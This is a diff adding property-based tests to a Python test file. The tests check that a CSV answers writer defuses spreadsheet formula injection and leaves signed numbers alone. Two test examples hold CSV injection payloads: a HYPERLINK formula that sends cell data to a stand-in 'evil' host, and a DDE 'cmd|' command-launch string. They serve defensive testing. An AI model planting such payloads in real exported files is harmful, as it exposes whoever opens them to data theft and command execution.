@@ -6,9 +6,15 @@ from pathlib import Path
 
 import numpy as np
 import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
 
 from cli.conftest import Give
 from trained import PROJECT, Trained
+from understudy.cli.answers_file import AnswersFile
+from understudy.cli.source import Asked
+from understudy.domain.answer import answer_from
+from understudy.domain.task import AnswerKind
 
 GOOD, BAD = ("good", "lovely", "great", "fine"), ("awful", "bad", "broken", "poor")
 
@@ -46,6 +52,44 @@ def prices(tmp_path_factory: pytest.TempPathFactory) -> Path:
     rents = 300 * rooms + 20 * floor + rng.normal(0, 15, 80)
     rows = [(int(r), int(f), round(float(p), 1)) for r, f, p in zip(rooms, floor, rents, strict=True)]
     return written(tmp_path_factory.mktemp("prices") / "flats.csv", [("rooms", "floor", "answer"), *rows])
+
+
+CELLS = st.text(
+    st.one_of(st.sampled_from("=+-@\t\r\n＝’'1.,%€ (a"), st.characters(exclude_categories=["Cs"])), max_size=9
+)
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+@given(cell=CELLS, label=CELLS)
+@example(cell='=HYPERLINK("http://evil/?x="&A1,"ok")', label="@SUM(1)")
+@example(cell="-2+3+cmd|' /C calc'!A0", label="+1")
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
+def test_no_cell_is_a_formula(tmp_path: Path, cell: str, label: str) -> None:
+    """Whatever was asked and whatever is answered, a spreadsheet finds texts and numbers; all else stays as it is."""
+    path = tmp_path / "out.csv"
+    path.unlink(missing_ok=True)
+    with AnswersFile(path, AnswerKind.LABEL, ["cell"], why=False) as file:
+        asked = Asked("x", lambda: b"", {"cell": cell})
+        file.answered(asked, answer_from((label, "other"), (0.9, 0.1), threshold=0.5))
+    with path.open(encoding="utf-8-sig", newline="") as opened:
+        header, row = csv.reader(opened)
+    found = dict(zip(header, row, strict=True))
+    for before, kept in ((cell, found["cell"]), (label, found["answer"])):
+        assert kept in {before, f"'{before}"}
+        if kept != before:
+            assert before.startswith(FORMULAS)
+        elif kept.startswith(FORMULAS):
+            assert not any(map(str.isalpha, kept.replace("e", "").replace("E", "")))
+            assert not set(kept[1:]) & set("=@(|!&*/")
+
+
+@pytest.mark.parametrize("number", ["-1.5", "+3", "-1,234.50", "-2e-5", "-12%", "-5 €", "-$3", "-", "--"])
+def test_numbers_stay_numbers(tmp_path: Path, number: str) -> None:
+    """A sign does not make a formula of a number, nor does the dash of a missing value."""
+    with AnswersFile(tmp_path / "out.csv", AnswerKind.LABEL, ["cell"], why=False) as file:
+        asked = Asked("x", lambda: b"", {"cell": number})
+        file.answered(asked, answer_from(("a", "b"), (0.9, 0.1), threshold=0.5))
+    assert read(tmp_path / "out.csv")[0]["cell"] == number
 
 
 def test_a_table_of_texts_comes_back_answered(give: Give, texts: Path, tmp_path: Path) -> None:
